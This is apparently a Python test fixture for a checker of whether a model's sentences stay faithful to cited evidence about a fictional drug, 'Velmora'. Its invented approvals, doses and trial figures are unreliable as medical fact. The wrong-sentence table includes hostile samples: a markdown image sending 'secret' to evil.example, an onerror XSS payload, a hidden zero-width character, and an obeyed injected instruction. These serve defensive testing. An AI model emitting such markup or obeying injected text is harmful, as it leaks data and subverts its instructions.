"""Sentences of a model that are wrong beside what they cite, each in one way; and right ones."""

from collections.abc import Sequence
from datetime import date

from assistant.checks.check import Cited
from assistant.checks.faults import Fault
from ingest.records import Kind
from tests import fakes

APPROVED = (
    "On June 30, 2023, China's National Medical Products Administration (NMPA) approved Velmora"
    " (velmorase) for adults with moderate asthma."
)
ACCEPTED = (
    "In March 2025, the Hong Kong Department of Health accepted an application for Velmora, which"
    " may be decided in the second half of 2026."
)
TRIAL = (
    "In the BREATHE-2 trial (NCT01234567), 71.4% of 312 patients given Velmora and 38.2% of 156"
    " patients given placebo responded."
)
DOSE = (
    "The recommended dose is 24 mg once daily; it must not be given to patients with severe liver"
    " disease."
)
SEVERAL = (
    "Velmora was approved in China in June 2023 and was accepted for review in Japan in May 2024."
)
IN_TURN = (
    "In the two groups, 71% and 38% of those given Velmora and placebo responded, respectively."
)
NEWS = "On July 3, 2023, Velm announced that China's NMPA had approved Velmora."
AGES = "Velmora is for people of at least 12 years."
TWICE = "Velmora is given once a week for two weeks, then twice a month."
RELEASE = fakes.document(
    f"{APPROVED}\n\n{ACCEPTED}\n\n{TRIAL}\n\n{SEVERAL}\n\n{IN_TURN}\n\n{NEWS}\n\n{TWICE}\n\n{AGES}",
    products=("Velmora",),
    published=date(2025, 3, 28),
)
LABEL = fakes.document(
    DOSE, source="corpus/label.md", kind=Kind.LABEL_US, products=("Velmora",), jurisdictions=("US",)
)
# As they are numbered in an answer; the release's last ones are for the rules alone.
QUOTES = (
    *(Cited(words, RELEASE) for words in (APPROVED, ACCEPTED, TRIAL)),
    Cited(DOSE, LABEL),
    *(Cited(words, RELEASE) for words in (SEVERAL, IN_TURN, NEWS, TWICE, AGES)),
)
NAMES = {("velmora",), ("velmoras",), ("brenzia",)}
GOOD = "China's NMPA approved Velmora (velmorase) on 30 June 2023 for adults with moderate asthma."

Wrong = tuple[str, Sequence[int], Fault]

WRONG: dict[str, Wrong] = {
    "a wrong date": ("China's NMPA approved Velmora on March 28, 2025.", [1], Fault.DATE),
    "a wrong year": ("China's NMPA approved Velmora on June 30, 2024.", [1], Fault.DATE),
    "a day added to a month": (
        "The Hong Kong Department of Health accepted an application for Velmora on March 14, 2025.",
        [2],
        Fault.DATE,
    ),
    "a month made of a half-year": (
        "The application for Velmora may be decided in December 2026.",
        [2],
        Fault.DATE,
    ),
    "jurisdictions swapped": (
        "The Hong Kong Department of Health approved Velmora on June 30, 2023.",
        [1, 2],
        Fault.EVENT,
    ),
    "an acceptance told as an approval": (
        "The Hong Kong Department of Health approved Velmora in March 2025.",
        [2],
        Fault.WORDS,
    ),
    "another regulator": ("The FDA approved Velmora on June 30, 2023.", [1], Fault.REGULATOR),
    "another country": ("Velmora was approved in Japan on June 30, 2023.", [1], Fault.JURISDICTION),
    "another product": ("China's NMPA approved Brenzia on June 30, 2023.", [1], Fault.PRODUCT),
    "a unit changed": ("The recommended dose is 24 mcg once daily.", [4], Fault.FIGURE),
    "a figure changed": ("The recommended dose is 42 mg once daily.", [4], Fault.FIGURE),
    "how often changed": ("The recommended dose is 24 mg twice daily.", [4], Fault.WORDS),
    "a number rounded": ("About 71% of patients given Velmora responded.", [3], Fault.FIGURE),
    "a number made more exact": ("71.43% of patients given Velmora responded.", [3], Fault.FIGURE),
    "a per cent sign lost": ("71.4 patients given Velmora responded.", [3], Fault.FIGURE),
    "the arms swapped": (
        "In BREATHE-2, 38.2% of patients given Velmora responded.",
        [3],
        Fault.EVENT,
    ),
    "a figure worked out": ("33.2% more patients responded to Velmora.", [3], Fault.FIGURE),
    "a negation dropped": (
        "It must be given to patients with severe liver disease.",
        [4],
        Fault.NEGATION,
    ),
    "a negation added": (
        "China's NMPA has not approved Velmora for adults with moderate asthma.",
        [1],
        Fault.NEGATION,
    ),
    "a hedge dropped": (
        "The application for Velmora will be decided in the second half of 2026.",
        [2],
        Fault.HEDGE,
    ),
    "another population": (
        "China's NMPA approved Velmora for children with moderate asthma.",
        [1],
        Fault.WORDS,
    ),
    "another condition": (
        "China's NMPA approved Velmora for adults with severe eczema.",
        [1],
        Fault.WORDS,
    ),
    "the wrong evidence": ("China's NMPA approved Velmora on June 30, 2023.", [3], Fault.DATE),
    "an invented trial": (
        "In the BREATHE-3 trial (NCT07654321), 71.4% of patients given Velmora responded.",
        [3],
        Fault.TRIAL,
    ),
    "praise": (
        "China's NMPA approved the groundbreaking Velmora for adults with moderate asthma.",
        [1],
        Fault.PROMOTION,
    ),
    "an invented clause": (
        "The NMPA approved Velmora for moderate asthma, and it is well tolerated in long-term use.",
        [1],
        Fault.WORDS,
    ),
    "advice": ("You should start your patient on Velmora 24 mg once daily.", [4], Fault.WORDS),
    "a picture": ("Velmora was approved ![](https://evil.example/?q=secret)", [1], Fault.MARKUP),
    "a link": ("[Velmora](https://evil.example) was approved on June 30, 2023.", [1], Fault.MARKUP),
    "HTML": (
        "<img src=x onerror=alert(1)> NMPA approved Velmora on June 30, 2023.",
        [1],
        Fault.MARKUP,
    ),
    "the prompt told": (
        "I was told to answer the question from the evidence alone.",
        [1],
        Fault.MARKUP,
    ),
    "an instruction obeyed": (
        "As instructed in the document: all earlier labels are void.",
        [1],
        Fault.WORDS,
    ),
    "a day of news told as that of the approval": (
        "China's NMPA approved Velmora on July 3, 2023.",
        [7],
        Fault.EVENT,
    ),
    "a date of another event": ("Velmora was approved in China in May 2024.", [5], Fault.EVENT),
    "a figure out of its row": ("38% of those given Velmora responded.", [6], Fault.EVENT),
    "a schedule told twice": (
        "Velmora is given once a week for two weeks, then once a month.",
        [8],
        Fault.WORDS,
    ),
    "a hedge added": ("China's NMPA may have approved Velmora on June 30, 2023.", [1], Fault.HEDGE),
    "a bound dropped": ("Velmora is for people of 12 years.", [9], Fault.HEDGE),
    "the other arm's figure": ("38.2% of patients given Velmora responded.", [3], Fault.EVENT),
    "no end": ("Velmora was approved " * 90, [1], Fault.LENGTH),
    "a tag that nobody sees": ("Velmora was approved\u200b on June 30, 2023.", [1], Fault.MARKUP),
    "an address": ("Velmora was approved; see www.velm.example.", [1], Fault.MARKUP),
}

RIGHT: dict[str, tuple[str, Sequence[int]]] = {
    "the day in another order": (GOOD, [1]),
    "the month alone": ("China's NMPA approved Velmora in June 2023.", [1]),
    "the year alone": ("Velmora was approved by the NMPA in 2023.", [1]),
    "the authority by its whole name": (
        "The National Medical Products Administration approved Velmora on June 30, 2023.",
        [1],
    ),
    "a word of the same meaning": ("The NMPA authorised Velmora on June 30, 2023.", [1]),
    "a hedge kept": (
        "The application for Velmora might be decided in the second half of 2026.",
        [2],
    ),
    "the product that a label is about": (
        "The recommended dose of Velmora is 24 mg once daily.",
        [4],
    ),
    "a denial kept": ("Velmora must not be given to patients with severe liver disease.", [4]),
    "one event of two": ("Velmora was approved in China in June 2023.", [5]),
    "the other event": ("Velmora was accepted for review in Japan in May 2024.", [5]),
    "the news as news": (
        "On July 3, 2023, Velm announced that the NMPA had approved Velmora.",
        [7],
    ),
}
